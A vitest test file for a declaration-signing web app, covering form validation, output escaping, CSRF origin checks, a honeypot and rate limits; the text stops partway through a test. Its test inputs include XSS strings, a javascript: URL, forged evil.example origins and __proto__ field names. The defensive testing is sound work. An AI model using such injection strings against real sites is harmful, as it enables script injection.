import { eq } from "drizzle-orm";
import { afterEach, describe, expect, it, vi } from "vitest";
import { appendRevision } from "../../src/db/declarations.ts";
import { declarations, type Declaration } from "../../src/db/schema.ts";
import { withdrawSignature } from "../../src/db/signatures.ts";
import { formatDate } from "../../src/web/kit/format.ts";
import { hashToken } from "../../src/services/signing.ts";
import { addDeclaration, createTestApp } from "../helpers/app.ts";
import { fromClient, peer } from "../helpers/clients.ts";
import {
  addSignature,
  checkedRadio,
  csrfFrom,
  definitionList,
  formBody,
  inputValue,
  listedNames,
  pageText,
  parseCsv,
  postForm,
  rowCount,
  signatureRows,
  signFields,
  signForm,
  storedCount,
  tags,
  textareaText,
  tokenFrom,
} from "../helpers/forms.ts";

afterEach(() => {
  vi.useRealTimers();
});

async function setup(env?: Record<string, string>) {
  const t = await createTestApp(env == null ? {} : { env });
  const declaration = addDeclaration(t.db);
  return { ...t, declaration };
}

type Setup = Awaited<ReturnType<typeof setup>>;

/** The app as a socket from `address` reaches it. */
function viaPeer(app: Setup["app"], address: string): Setup["app"] {
  return { request: (input: string, init?: RequestInit) => app.request(input, init, peer(address)) } as Setup["app"];
}

function expectNothingStored(t: Pick<Setup, "db">, rows = 0, count = rows) {
  expect(rowCount(t.db)).toBe(rows);
  expect(storedCount(t.db)).toBe(count);
}

function revise(t: Pick<Setup, "db">, slug = "test-declaration"): number {
  return t.db.transaction((tx) => {
    const d = tx.select().from(declarations).where(eq(declarations.slug, slug)).get()!;
    return appendRevision(tx, d, {
      title: d.title,
      summary: d.summary,
      body: "## Changed\n\nA new text.\n",
      changeSummary: "Rewrote",
      origin: "site",
    });
  });
}

function current(t: Pick<Setup, "db">, slug = "test-declaration"): Declaration {
  return t.db.select().from(declarations).where(eq(declarations.slug, slug)).get()!;
}

/** The form's own messages: the summary at the top and the one under each field. */
function fieldError(html: string, field: string): string | undefined {
  const m = new RegExp(`<p class="field-error" id="${field}-error">([\\s\\S]*?)</p>`).exec(html);
  return m == null ? undefined : pageText(m[1]!);
}

function formError(html: string): string {
  const m = /<div class="form-errors" role="alert"[^>]*>([\s\S]*?)<\/div>/.exec(html);
  // Inline tags vanish, block tags separate.
  return m == null ? "" : pageText(m[1]!.replace(/<(?!\/?(?:p|ul|li)\b)[^>]*>/g, ""));
}

describe("the signing form", () => {
  it("is on the Declaration page and on its own page, with no cookie and no per-visitor token", async () => {
    const t = await setup();
    for (const path of ["/d/test-declaration", "/d/test-declaration/sign"]) {
      const res = await t.app.request(path);
      expect(res.status).toBe(200);
      expect(res.headers.getSetCookie()).toEqual([]);
      const html = await res.text();
      const form = tags(html, "form").find((f) => f.action === "/d/test-declaration/sign");
      expect(form).toMatchObject({ method: "post" });
      expect(inputValue(html, "csrf")).toBe("");
      expect(inputValue(html, "revision")).toBe("1");
      expect(inputValue(html, "phone")).toBe("");
      expect(checkedRadio(html, "visibility")).toBe("public");
    }
  });

  it("gives a browser that still has a CSRF cookie the same page as everyone", async () => {
    const t = await setup();
    const everyone = await (await t.app.request("/d/test-declaration/sign")).text();
    const again = await t.app.request("/d/test-declaration/sign", {
      headers: { Cookie: "__Host-csrf=AAAAAAAAAAAAAAAAAAAAAA" },
    });
    expect(again.headers.getSetCookie()).toEqual([]);
    expect(await again.text()).toBe(everyone);
  });

  it("answers 404 for an unknown or draft Declaration", async () => {
    const t = await setup();
    expect((await t.app.request("/d/nope/sign")).status).toBe(404);
    const csrf = await csrfFrom(t.app);
    const res = await postForm(t.app, "/d/nope/sign", signFields(), { csrf });
    expect(res.status).toBe(404);
    expect(await res.text()).toContain("There is no Declaration “nope” here.");
    t.db.update(declarations).set({ status: "draft" }).run();
    expect((await t.app.request("/d/test-declaration/sign")).status).toBe(404);
    expect((await postForm(t.app, "/d/test-declaration/sign", signFields(), { csrf })).status).toBe(404);
    expectNothingStored(t);
  });
});

describe("signing: the happy path", () => {
  it("stores the signature, redirects to the private link and counts it everywhere", async () => {
    const t = await setup();
    const res = await signForm(t.app, {
      name: "Ada Lovelace",
      place: "London",
      website: "ada.example.org",
      email: "Ada@Example.org",
      comment: "For the engines.\r\n\r\nAnd the poetry.",
    });
    const token = tokenFrom(res);

    const [row] = signatureRows(t.db);
    expect(signatureRows(t.db)).toHaveLength(1);
    expect(row).toMatchObject({
      declarationId: t.declaration.id,
      revision: 1,
      firstRevision: 1,
      kind: "browser",
      status: "confirmed",
      name: "Ada Lovelace",
      place: "London",
      website: "https://ada.example.org/",
      comment: "For the engines.\n\nAnd the poetry.",
      email: "Ada@example.org",
      public: true,
      tokenHash: hashToken(token),
    });
    // Only hashes of the token and the email address are kept.
    expect(JSON.stringify(row)).not.toContain(token);
    expect(row!.emailHash).not.toContain("example");

    const page = await t.app.request(`/s/${token}?signed=1`);
    expect(page.status).toBe(200);
    const html = await page.text();
    expect(pageText(html)).toContain("Thank you for signing. You are the first signer.");
    expect(html).toContain(`https://undersign.test/s/${token}`);
    expect(definitionList(html)).toEqual({
      Name: "Ada Lovelace",
      "Place or affiliation": "London",
      Website: "https://ada.example.org/",
      Comment: "For the engines.\n\nAnd the poetry.",
      "Email address": "Ada@example.org",
      "Name shown publicly": "yes",
      "Version signed": "1",
      Signed: formatDate(row!.created),
    });

    expect(storedCount(t.db)).toBe(1);
    expect(pageText(await (await t.app.request("/d/test-declaration")).text())).toContain("1 person has signed.");
    expect(pageText(await (await t.app.request("/")).text())).toContain("1 signature");
    expect((await (await t.app.request("/api/declarations/test-declaration")).json()).signatureCount).toBe(1);
    expect((await (await t.app.request("/api/declarations")).json()).declarations[0].signatureCount).toBe(1);
  });

  it("counts one more with each signature", async () => {
    const t = await setup();
    for (let i = 1; i <= 3; i++) {
      tokenFrom(await signForm(t.app, { name: `Signer ${i}` }));
      expect(storedCount(t.db)).toBe(i);
      expect(pageText(await (await t.app.request("/")).text())).toContain(`${i} signature${i === 1 ? "" : "s"}`);
    }
  });

  it("shows the latest public signers on the Declaration page", async () => {
    const t = await setup();
    tokenFrom(await signForm(t.app, { name: "First Signer", place: "Oslo" }));
    tokenFrom(await signForm(t.app, { name: "Second Signer" }));
    const html = await (await t.app.request("/d/test-declaration")).text();
    expect(listedNames(html)).toEqual(["Second Signer", "First Signer"]);
    expect(html).toContain('href="/d/test-declaration/signatures"');
  });

  it("counts “count me only” signatures without listing them anywhere", async () => {
    const t = await setup();
    tokenFrom(
      await signForm(t.app, {
        name: "Quiet Person",
        place: "Hidden Town",
        comment: "Secret comment",
        visibility: "count",
      }),
    );
    tokenFrom(await signForm(t.app, { name: "Loud Person" }));
    expect(signatureRows(t.db).map((r) => r.public)).toEqual([false, true]);
    expect(storedCount(t.db)).toBe(2);

    const pages = [
      await (await t.app.request("/d/test-declaration")).text(),
      await (await t.app.request("/d/test-declaration/signatures")).text(),
      await (await t.app.request("/d/test-declaration/signatures.csv")).text(),
      await (await t.app.request("/api/declarations/test-declaration/signatures")).text(),
    ];
    for (const body of pages) {
      expect(body).toContain("Loud Person");
      expect(body).not.toContain("Quiet Person");
      expect(body).not.toContain("Hidden Town");
      expect(body).not.toContain("Secret comment");
    }
    expect(pageText(pages[0]!)).toContain("2 people have signed.");
    expect(pageText(pages[1]!)).toContain("2 signatures");
    expect((await (await t.app.request("/api/declarations/test-declaration/signatures")).json()).signatureCount).toBe(
      2,
    );
  });

  it("strips invisible and direction characters instead of refusing them", async () => {
    const t = await setup();
    tokenFrom(
      await signForm(t.app, { name: "\u202EAda\u200B Love\u2066lace\u2069\uFEFF", place: "Lon\u200Bdon\u200E" }),
    );
    expect(signatureRows(t.db)[0]).toMatchObject({ name: "Ada Lovelace", place: "London" });
  });

  it("stores Unicode in NFC", async () => {
    const t = await setup();
    const nfd = "Zoe\u0301 Ra\u0308tsel";
    tokenFrom(await signForm(t.app, { name: nfd, comment: "Cafe\u0301" }));
    const [row] = signatureRows(t.db);
    expect(row!.name).toBe("Zoé Rätsel");
    expect(row!.name).toBe(row!.name!.normalize("NFC"));
    expect(row!.comment).toBe("Café");
  });

  it("accepts a website without a scheme as https", async () => {
    const t = await setup();
    tokenFrom(await signForm(t.app, { website: "example.org" }));
    expect(signatureRows(t.db)[0]!.website).toBe("https://example.org/");
  });

  it("decodes + and percent escapes like a browser encodes them", async () => {
    const t = await setup();
    const pair = await csrfFrom(t.app);
    const body = `csrf=${pair.csrf}&revision=1&name=Ada+Lovelace%2C+Jr.&place=S%C3%A3o+Paulo&comment=1%2B1%3D2&visibility=public&phone=`;
    tokenFrom(await postForm(t.app, "/d/test-declaration/sign", {}, { csrf: pair, body }));
    expect(signatureRows(t.db)[0]).toMatchObject({ name: "Ada Lovelace, Jr.", place: "São Paulo", comment: "1+1=2" });
  });

  it("uses the first value when a field is sent twice", async () => {
    const t = await setup();
    const pair = await csrfFrom(t.app);
    const body = `csrf=${pair.csrf}&name=First&name=Second&visibility=public&visibility=count`;
    tokenFrom(await postForm(t.app, "/d/test-declaration/sign", {}, { csrf: pair, body }));
    expect(signatureRows(t.db)[0]).toMatchObject({ name: "First", public: true });
  });

  it("records the revision signed", async () => {
    const t = await setup();
    tokenFrom(await signForm(t.app, { name: "Early Signer" }));
    expect(revise(t)).toBe(2);
    const pair = await csrfFrom(t.app);
    const html = await (await t.app.request("/d/test-declaration/sign")).text();
    expect(inputValue(html, "revision")).toBe("2");
    expect(pageText(html)).toContain("You sign version 2.");
    tokenFrom(await signForm(t.app, { name: "Late Signer", revision: "2" }, { csrf: pair }));
    expect(signatureRows(t.db).map((r) => [r.name, r.revision, r.firstRevision])).toEqual([
      ["Early Signer", 1, 1],
      ["Late Signer", 2, 2],
    ]);
    expect(storedCount(t.db)).toBe(2);
  });

  it("does not record someone as signing a version they have not seen", async () => {
    const t = await setup();
    const pair = await csrfFrom(t.app); // the form shows version 1
    revise(t);
    const res = await signForm(t.app, { name: "Slow Reader", comment: "Kept" }, { csrf: pair });
    expect(res.status).toBe(409);
    const html = await res.text();
    expect(formError(html)).toContain("it is now at version 2");
    expect(inputValue(html, "name")).toBe("Slow Reader");
    expect(textareaText(html, "comment")).toBe("Kept");
    expect(inputValue(html, "revision")).toBe("2");
    expectNothingStored(t);
    // Sending the refreshed form signs version 2.
    tokenFrom(await signForm(t.app, { name: "Slow Reader", revision: inputValue(html, "revision")! }, { csrf: pair }));
    expect(signatureRows(t.db)[0]).toMatchObject({ revision: 2 });
  });

  it("signs the latest version when the form sends no version", async () => {
    const t = await setup();
    revise(t);
    tokenFrom(await signForm(t.app, { revision: undefined }));
    expect(signatureRows(t.db)[0]).toMatchObject({ revision: 2 });
  });
});

describe("signing: bad input", () => {
  const cases: [string, Record<string, string | undefined>, string, string | RegExp][] = [
    ["a missing name", { name: undefined }, "name", "Please enter your name."],
    ["an empty name", { name: "" }, "name", "Please enter your name."],
    ["a whitespace-only name", { name: "  \t  " }, "name", "Please enter your name."],
    [
      "a 101-character name",
      { name: "n".repeat(101) },
      "name",
      "Your name must be at most 100 characters (it has 101).",
    ],
    ["a 10 KB name", { name: "n".repeat(10 * 1024) }, "name", "Your name must be at most 100 characters."],
    [
      "a name with a URL",
      { name: "Cheap pills https://spam.example" },
      "name",
      "Your name must not contain a web address; use the website field.",
    ],
    [
      "a name with www.",
      { name: "www.spam.example" },
      "name",
      "Your name must not contain a web address; use the website field.",
    ],
    ["a name of only punctuation", { name: "?!?!" }, "name", "Your name must contain at least one letter or digit."],
    ["a name of only dashes", { name: "- - -" }, "name", "Your name must contain at least one letter or digit."],
    ["a NUL byte in the name", { name: "Ada\u0000Lovelace" }, "name", "Your name contains a NUL character."],
    ["a NUL byte in the comment", { comment: "Hi\u0000" }, "comment", "Comment contains a NUL character."],
    [
      "a 101-character place",
      { place: "p".repeat(101) },
      "place",
      "Place or affiliation must be at most 100 characters (it has 101).",
    ],
    [
      "a javascript: website",
      { website: "javascript:alert(1)" },
      "website",
      "Website must be a web address starting with http:// or https://.",
    ],
    [
      "an ftp:// website",
      { website: "ftp://example.org/" },
      "website",
      "Website must be a web address starting with http:// or https://.",
    ],
    [
      "a website with a password",
      { website: "http://user:pw@x.org" },
      "website",
      "Website must not contain a user name or password.",
    ],
    [
      "a 501-character comment",
      { comment: "c".repeat(501) },
      "comment",
      "Comment must be at most 500 characters (it has 501).",
    ],
    [
      "a bad email address",
      { email: "ada(at)example.org" },
      "email",
      "Email address does not look like an address (name@example.org).",
    ],
    [
      "a missing visibility",
      { visibility: undefined },
      "public",
      "Please choose whether to show your name or only be counted.",
    ],
    [
      "a wrong visibility",
      { visibility: "everyone" },
      "public",
      "Choose “public” to show your name or “count” to be counted only.",
    ],
  ];

  it.each(cases)(
    "refuses %s with 400, a message naming the field, the input kept and nothing stored",
    async (_, overrides, field, message) => {
      const t = await setup();
      const sent = {
        name: "Ada Lovelace",
        place: "London",
        website: "https://ada.example.org",
        email: "ada@example.org",
        comment: 'Line one\nLine <two> & "three"',
        visibility: "count",
        ...overrides,
      };
      const res = await signForm(t.app, sent);
      expect(res.status).toBe(400);
      expect(res.headers.get("content-type")).toMatch(/^text\/html/);
      const html = await res.text();
      expect(fieldError(html, field)).toBe(message);
      const label = {
        name: "Your name",
        place: "Place or affiliation",
        website: "Website",
        email: "Email address",
        comment: "Comment",
        public: "Your name on the list",
      }[field]!;
      expect(formError(html)).toContain(`${label}: ${message}`);
      if (field !== "public") {
        expect(tags(html, field === "comment" ? "textarea" : "input").find((a) => a.name === field)).toMatchObject({
          "aria-invalid": "true",
          "aria-describedby": `${field}-error`,
        });
      }
      // Everything typed comes back exactly as typed.
      for (const name of ["name", "place", "website", "email"])
        expect(inputValue(html, name)).toBe(sent[name as keyof typeof sent] ?? "");
      expect(textareaText(html, "comment")).toBe(sent.comment);
      // A missing choice comes back as the form's default; an unknown one unchecked.
      expect(checkedRadio(html, "visibility")).toBe(
        sent.visibility == null ? "public" : sent.visibility === "count" ? "count" : undefined,
      );
      // The form, ready to send again: no per-visitor token on it.
      expect(inputValue(html, "csrf")).toBe("");
      expectNothingStored(t);
    },
  );

  it("reports several bad fields at once", async () => {
    const t = await setup();
    const res = await signForm(t.app, { name: "", website: "ftp://x.org", email: "nope", visibility: undefined });
    expect(res.status).toBe(400);
    const html = await res.text();
    expect(formError(html)).toContain("Please check these fields:");
    for (const field of ["name", "website", "email", "public"]) expect(fieldError(html, field)).toBeTruthy();
    expectNothingStored(t);
  });

  it("escapes what it echoes", async () => {
    const t = await setup();
    const res = await signForm(t.app, { name: '"><script>alert(1)</script>', place: "p".repeat(101) });
    const html = await res.text();
    expect(html).not.toContain("<script>alert(1)</script>");
    expect(inputValue(html, "name")).toBe('"><script>alert(1)</script>');
  });

  it("refuses a missing proof of work when it is on, keeping the input", async () => {
    const t = await setup({ PROOF_OF_WORK: "on" });
    const res = await signForm(t.app, { name: "Ada Lovelace", place: "London" });
    expect(res.status).toBe(400);
    const html = await res.text();
    // Said once, with what to do, and (no mail on this site) the fediverse as the way without JavaScript.
    expect(formError(html)).toBe(
      "The anti-spam check did not come with the form: it runs in your browser and needs JavaScript. Please wait until the check says it is done, then send the form again; your entries are kept. If JavaScript is off in your browser, sign from your fediverse account (Mastodon and others) instead: see “Follow and sign from the fediverse” on the Declaration’s page.",
    );
    expect(formError(html)).not.toMatch(/Anti-spam check: The anti-spam check/);
    expect(inputValue(html, "name")).toBe("Ada Lovelace");
    expect(inputValue(html, "place")).toBe("London");
    expect(inputValue(html, "altcha")).toBeUndefined();
    expectNothingStored(t);
  });

  it("tells about a newer version together with the field errors", async () => {
    const t = await setup();
    const pair = await csrfFrom(t.app);
    revise(t);
    const res = await signForm(t.app, { name: "" }, { csrf: pair });
    expect(res.status).toBe(400);
    const html = await res.text();
    expect(formError(html)).toContain("it is now at version 2");
    expect(fieldError(html, "name")).toBe("Please enter your name.");
    expectNothingStored(t);
  });

  it("ignores odd field names such as __proto__", async () => {
    const t = await setup();
    const pair = await csrfFrom(t.app);
    const body = `__proto__=x&constructor=y&toString=z&${formBody({ csrf: pair.csrf, ...signFields({ name: "Proto Test" }) })}`;
    tokenFrom(await postForm(t.app, "/d/test-declaration/sign", {}, { csrf: pair, body }));
    expect(signatureRows(t.db)[0]!.name).toBe("Proto Test");
  });

  it("requires an email address when signatures are confirmed by mail", async () => {
    const t = await setup({ SIGNATURE_CONFIRMATION: "email", SMTP_URL: "smtp://127.0.0.1:2525" });
    const res = await signForm(t.app, { email: "" });
    expect(res.status).toBe(400);
    expect(fieldError(await res.text(), "email")).toBe(
      "Please enter your email address: this site confirms each signature by mail.",
    );
    expectNothingStored(t);
  });
});

describe("signing: what the body must look like", () => {
  it("refuses a body over 16 KB with 413", async () => {
    const t = await setup();
    const res = await signForm(t.app, { name: "Ada", comment: "x".repeat(17 * 1024) });
    expect(res.status).toBe(413);
    expect(formError(await res.text())).toContain("The request is larger than 16 KB.");
    expectNothingStored(t);
  });

  it("refuses a declared Content-Length over 16 KB before reading", async () => {
    const t = await setup();
    const res = await signForm(t.app, {}, { headers: { "Content-Length": String(10 * 1024 * 1024) } });
    expect(res.status).toBe(413);
    expectNothingStored(t);
  });

  it("accepts a body just under the limit", async () => {
    const t = await setup();
    const pair = await csrfFrom(t.app);
    const base = formBody({ csrf: pair.csrf, ...signFields(), pad: "" });
    const body = base + "x".repeat(16 * 1024 - base.length);
    expect(body.length).toBe(16 * 1024);
    tokenFrom(await postForm(t.app, "/d/test-declaration/sign", {}, { csrf: pair, body }));
  });

  it.each([
    ["JSON", "application/json", () => JSON.stringify(signFields())],
    ["text", "text/plain", () => formBody(signFields())],
    ["no content type", "", () => formBody(signFields())],
  ])("refuses %s with 415", async (_, type, body) => {
    const t = await setup();
    const pair = await csrfFrom(t.app);
    const res = await t.app.request("/d/test-declaration/sign", {
      method: "POST",
      headers: { ...(type === "" ? {} : { "Content-Type": type }), Cookie: pair.cookie },
      body: body(),
    });
    expect(res.status).toBe(415);
    expect(formError(await res.text())).toContain("The form must be sent as application/x-www-form-urlencoded.");
    expectNothingStored(t);
  });

  it("refuses multipart form data with 415", async () => {
    const t = await setup();
    const pair = await csrfFrom(t.app);
    const data = new FormData();
    for (const [k, v] of Object.entries({ csrf: pair.csrf, ...signFields() })) data.append(k, v);
    const res = await t.app.request("/d/test-declaration/sign", {
      method: "POST",
      headers: { Cookie: pair.cookie },
      body: data,
    });
    expect(res.status).toBe(415);
    expectNothingStored(t);
  });

  it("accepts the form content type with a charset parameter", async () => {
    const t = await setup();
    const pair = await csrfFrom(t.app);
    const res = await t.app.request("/d/test-declaration/sign", {
      method: "POST",
      headers: { "Content-Type": "Application/X-WWW-Form-Urlencoded; charset=UTF-8", ...pair.headers },
      body: formBody({ csrf: pair.csrf, ...signFields() }),
    });
    tokenFrom(res);
  });

  it("refuses raw bytes that are not UTF-8 with 400", async () => {
    const t = await setup();
    const pair = await csrfFrom(t.app);
    const head = new TextEncoder().encode(`csrf=${pair.csrf}&visibility=public&name=Ada`);
    const body = new Uint8Array([...head, 0xff, 0xfe]);
    const res = await postForm(t.app, "/d/test-declaration/sign", {}, { csrf: pair, body });
    expect(res.status).toBe(400);
    expect(formError(await res.text())).toContain("The request is not valid UTF-8 text.");
    expectNothingStored(t);
  });

  it.each(["%FF", "%C0%AF", "%ED%A0%80", "%E2%82", "%"])(
    "refuses the percent-encoded invalid UTF-8 %s with 400",
    async (bad) => {
      const t = await setup();
      const pair = await csrfFrom(t.app);
      const res = await postForm(
        t.app,
        "/d/test-declaration/sign",
        {},
        { csrf: pair, body: `csrf=${pair.csrf}&visibility=public&name=Ada${bad}` },
      );
      expect(res.status).toBe(400);
      expect(formError(await res.text())).toContain("not valid UTF-8");
      expectNothingStored(t);
    },
  );
});

describe("signing: CSRF", () => {
  async function expect403KeepingInput(t: Setup, res: Response) {
    expect(res.status).toBe(403);
    const html = await res.text();
    expect(formError(html)).toContain("This form expired or was not sent from this site.");
    expect(inputValue(html, "name")).toBe("Grace Hopper");
    expect(inputValue(html, "place")).toBe("Arlington");
    expect(textareaText(html, "comment")).toBe("Kept comment");
    expect(checkedRadio(html, "visibility")).toBe("count");
    // Neither the token nor the proof of work is echoed back as typed input.
    expect(html.match(/name="csrf"/g)).toHaveLength(1);
    expectNothingStored(t);
    return html;
  }
  const typed = { name: "Grace Hopper", place: "Arlington", comment: "Kept comment", visibility: "count" };

  // The sign form is on pages anyone may be served: no per-visitor token, the
  // browser's own headers say where a post comes from (docs/decisions/0027).
  it("refuses a post whose browser says nothing of where it comes from (no Sec-Fetch-Site, Origin or Referer)", async () => {
    const t = await setup();
    await expect403KeepingInput(t, await signForm(t.app, typed, { csrf: null, headers: {} }));
  });

  it("refuses a post from an opaque origin (Origin: null, as a sandboxed frame sends it) without fetch metadata", async () => {
    const t = await setup();
    await expect403KeepingInput(t, await signForm(t.app, typed, { csrf: null, headers: { Origin: "null" } }));
  });

  it.each(["cross-site", "same-site", "nonsense"])(
    "refuses a post with Sec-Fetch-Site: %s, even with our own Origin",
    async (site) => {
      const t = await setup();
      await expect403KeepingInput(
        t,
        await signForm(t.app, typed, {
          csrf: null,
          headers: { "Sec-Fetch-Site": site, Origin: "https://undersign.test" },
        }),
      );
    },
  );

  it("refuses a post whose only clue is another site's Referer", async () => {
    const t = await setup();
    await expect403KeepingInput(
      t,
      await signForm(t.app, typed, { csrf: null, headers: { Referer: "https://evil.example/d/test-declaration" } }),
    );
  });

  it("refuses a post without fetch metadata and with another site's Origin, whatever its Referer", async () => {
    const t = await setup();
    await expect403KeepingInput(
      t,
      await signForm(t.app, typed, {
        csrf: null,
        headers: { Origin: "https://evil.example", Referer: "https://undersign.test/d/test-declaration" },
      }),
    );
  });

  it("a token and cookie do not outweigh a cross-site Sec-Fetch-Site", async () => {
    const t = await setup();
    const pair = await csrfFrom(t.app, "/login");
    expect(pair.csrf).not.toBe("");
    await expect403KeepingInput(
      t,
      await signForm(t.app, typed, { csrf: pair, headers: { "Sec-Fetch-Site": "cross-site" } }),
    );
  });

  it("refuses without proof, and the same form then goes through when the browser says it comes from the site", async () => {
    const t = await setup();
    const html = await expect403KeepingInput(t, await signForm(t.app, typed, { csrf: null, headers: {} }));
    expect(inputValue(html, "csrf")).toBe("");
    tokenFrom(await signForm(t.app, typed, { csrf: null, headers: { "Sec-Fetch-Site": "same-origin" } }));
  });

  it.each([
    ["Sec-Fetch-Site: same-origin alone", { "Sec-Fetch-Site": "same-origin" }],
    ["Sec-Fetch-Site: none (the person sent it themselves)", { "Sec-Fetch-Site": "none" }],
    [
      "same-origin fetch metadata with Origin: null (a no-referrer page)",
      { "Sec-Fetch-Site": "same-origin", Origin: "null" },
    ],
    ["our Origin without fetch metadata (browsers before 2023)", { Origin: "https://undersign.test" }],
    [
      "only our own Referer (browsers before Origin on every post)",
      { Referer: "https://undersign.test/d/test-declaration" },
    ],
  ])("accepts %s", async (_, headers) => {
    const t = await setup();
    tokenFrom(await signForm(t.app, typed, { csrf: null, headers }));
  });

  it("on a site served over http, compares with that origin", async () => {
    const app = await createTestApp({ origin: "http://localhost:8000" });
    const t = { ...app, declaration: addDeclaration(app.db) };
    await expect403KeepingInput(
      t,
      await signForm(t.app, typed, { csrf: null, headers: { Origin: "https://localhost:8000" } }),
    );
    tokenFrom(await signForm(t.app, typed, { csrf: null, headers: { Origin: "http://localhost:8000" } }));
  });

  it.each([
    "https://evil.example",
    "http://undersign.test",
    "https://undersign.test.evil.example",
    "https://undersign.test:8443",
  ])("refuses a post from the foreign Origin %s even with a valid token", async (origin) => {
    const t = await setup();
    await expect403KeepingInput(t, await signForm(t.app, typed, { headers: { Origin: origin } }));
  });

  it("refuses a cross-site post that sends no Origin but Sec-Fetch-Site", async () => {
    const t = await setup();
    await expect403KeepingInput(t, await signForm(t.app, typed, { headers: { "Sec-Fetch-Site": "cross-site" } }));
  });

  it("accepts our own Origin and same-origin fetch metadata", async () => {
    const t = await setup();
    tokenFrom(
      await signForm(t.app, typed, { headers: { Origin: "https://undersign.test", "Sec-Fetch-Site": "same-origin" } }),
    );
  });
});

describe("signing: the honeypot", () => {
  it("thanks a filled-in honeypot but stores nothing", async () => {
    const t = await setup();
    const res = await signForm(t.app, { phone: "+1 555 0100" });
    expect(res.status).toBe(200);
    const text = pageText(await res.text());
    expect(text).toContain("Thank you");
    expect(text).toContain("Your signature has been received.");
    expectNothingStored(t);
  });
});

describe("signing: rate limits", () => {
  it("refuses a second signature from the same client within a minute with 429 and Retry-After, keeping the input", async () => {
    const t = await setup({ RATE_LIMIT_PER_DECLARATION: "1/1m,5/5m" });
    tokenFrom(await signForm(t.app, { name: "First" }));
    const res = await signForm(t.app, { name: "Second Person", place: "Paris", comment: "Again" });
    expect(res.status).toBe(429);
    const retry = Number(res.headers.get("retry-after"));
    expect(retry).toBeGreaterThan(0);
    expect(retry).toBeLessThanOrEqual(60);
    const html = await res.text();
    expect(formError(html)).toMatch(
      /Too many signatures from your connection just now\. Please try again in (?:\d+ seconds|1 minute); nothing was lost, your entries are kept\./,
    );
    expect(inputValue(html, "name")).toBe("Second Person");
    expect(inputValue(html, "place")).toBe("Paris");
    expect(textareaText(html, "comment")).toBe("Again");
    expectNothingStored(t, 1);
  });

  it("allows the next signature once the window has passed", async () => {
    const t = await setup({ RATE_LIMIT_PER_DECLARATION: "1/1m,5/5m" });
    vi.useFakeTimers({ toFake: ["Date"] });
    vi.setSystemTime(new Date("2026-05-01T10:00:00Z"));
    tokenFrom(await signForm(t.app, { name: "First" }));
    vi.setSystemTime(new Date("2026-05-01T10:00:59Z"));
    expect((await signForm(t.app, { name: "Second" })).status).toBe(429);
    vi.setSystemTime(new Date("2026-05-01T10:01:01Z"));
    tokenFrom(await signForm(t.app, { name: "Second" }));
    expect(storedCount(t.db)).toBe(2);
  });

  it("does not limit another Declaration by the first one's per-Declaration limit", async () => {
    const t = await setup({ RATE_LIMIT_PER_DECLARATION: "1/1m,5/5m" });
    addDeclaration(t.db, { slug: "second-declaration", title: "Second" });
    tokenFrom(await signForm(t.app, { name: "Ada" }));
    tokenFrom(await signForm(t.app, { name: "Ada" }, { slug: "second-declaration" }));
    expect((await signForm(t.app, { name: "Bob" })).status).toBe(429);
    expect((await signForm(t.app, { name: "Bob" }, { slug: "second-declaration" })).status).toBe(429);
    expect([storedCount(t.db), storedCount(t.db, "second-declaration")]).toEqual([1, 1]);
  });

  it("limits a client across Declarations with the per-client limit", async () => {
    const t = await setup({ RATE_LIMIT_PER_CLIENT: "2/10m" });
    for (const slug of ["d-two", "d-three"]) addDeclaration(t.db, { slug });
    tokenFrom(await signForm(t.app, {}, { slug: "test-declaration" }));
    tokenFrom(await signForm(t.app, {}, { slug: "d-two" }));
    const res = await signForm(t.app, {}, { slug: "d-three" });
    expect(res.status).toBe(429);
    expect(Number(res.headers.get("retry-after"))).toBeGreaterThan(540);
    expect(formError(await res.text())).toContain("Please try again in 10 minutes;");
    expect(storedCount(t.db, "d-three")).toBe(0);
  });

  it("does not spend the limit on a refused form", async () => {
    const t = await setup({ RATE_LIMIT_PER_DECLARATION: "1/1m" });
    expect((await signForm(t.app, { name: "" })).status).toBe(400);
    expect((await signForm(t.app, { phone: "bot" })).status).toBe(200);
    tokenFrom(await signForm(t.app, { name: "Real" }));
  });

  it("ignores X-Forwarded-For unless TRUST_PROXY is set", async () => {
    const t = await setup({ RATE_LIMIT_PER_DECLARATION: "1/1m" });
    const proxy = viaPeer(t.app, "127.0.0.1");
    tokenFrom(await signForm(proxy, { name: "One" }, { headers: { "X-Forwarded-For": "203.0.113.1" } }));
    expect((await signForm(proxy, { name: "Two" }, { headers: { "X-Forwarded-For": "203.0.113.2" } })).status).toBe(
      429,
    );
  });

  it("with TRUST_PROXY, tells clients apart by the X-Forwarded-For entry our proxy added", async () => {
    const t = await setup({ RATE_LIMIT_PER_DECLARATION: "1/1m", TRUST_PROXY: "loopback" });
    const proxy = viaPeer(t.app, "127.0.0.1");
    tokenFrom(await signForm(proxy, { name: "One" }, { headers: { "X-Forwarded-For": "203.0.113.1" } }));
    tokenFrom(await signForm(proxy, { name: "Two" }, { headers: { "X-Forwarded-For": "203.0.113.2" } }));
    tokenFrom(await signForm(proxy, { name: "Three" }, { headers: { "X-Forwarded-For": "2001:db8::1" } }));
    expect((await signForm(proxy, { name: "Four" }, { headers: { "X-Forwarded-For": "203.0.113.1" } })).status).toBe(
      429,
    );
    // A client cannot escape by prepending addresses: our proxy's hop is the last one.
    expect(
      (await signForm(proxy, { name: "Five" }, { headers: { "X-Forwarded-For": "198.51.100.7, 203.0.113.2" } })).status,
    ).toBe(429);
    expect(storedCount(t.db)).toBe(3);
  });

  it("with TRUST_PROXY, believes X-Forwarded-For only from the listed proxies", async () => {
    const t = await setup({ RATE_LIMIT_PER_DECLARATION: "1/1m", TRUST_PROXY: "10.0.0.0/8" });
    // A client that reaches the server directly and claims another address each time is still one client.
    const direct = viaPeer(t.app, "192.0.2.50");
    tokenFrom(await signForm(direct, { name: "One" }, { headers: { "X-Forwarded-For": "203.0.113.1" } }));
    expect((await signForm(direct, { name: "Two" }, { headers: { "X-Forwarded-For": "203.0.113.2" } })).status).toBe(
      429,
    );
    expect((await signForm(direct, { name: "Three" }, { headers: { "X-Forwarded-For": "10.0.0.1" } })).status).toBe(
      429,
    );
    // Through the listed proxy, the address it adds counts.
    const proxy = viaPeer(t.app, "10.1.2.3");
    tokenFrom(await signForm(proxy, { name: "Four" }, { headers: { "X-Forwarded-For": "203.0.113.2" } }));
    expect(storedCount(t.db)).toBe(2);
  });

  it("counts an IPv6 /64 as one client (IPV6_PREFIX_LENGTH), and an IPv4-mapped address as its IPv4 address", async () => {
    const t = await setup({ RATE_LIMIT_PER_DECLARATION: "1/1m" });
    tokenFrom(await signForm(viaPeer(t.app, "2001:db8:1:2::1"), { name: "One" }));
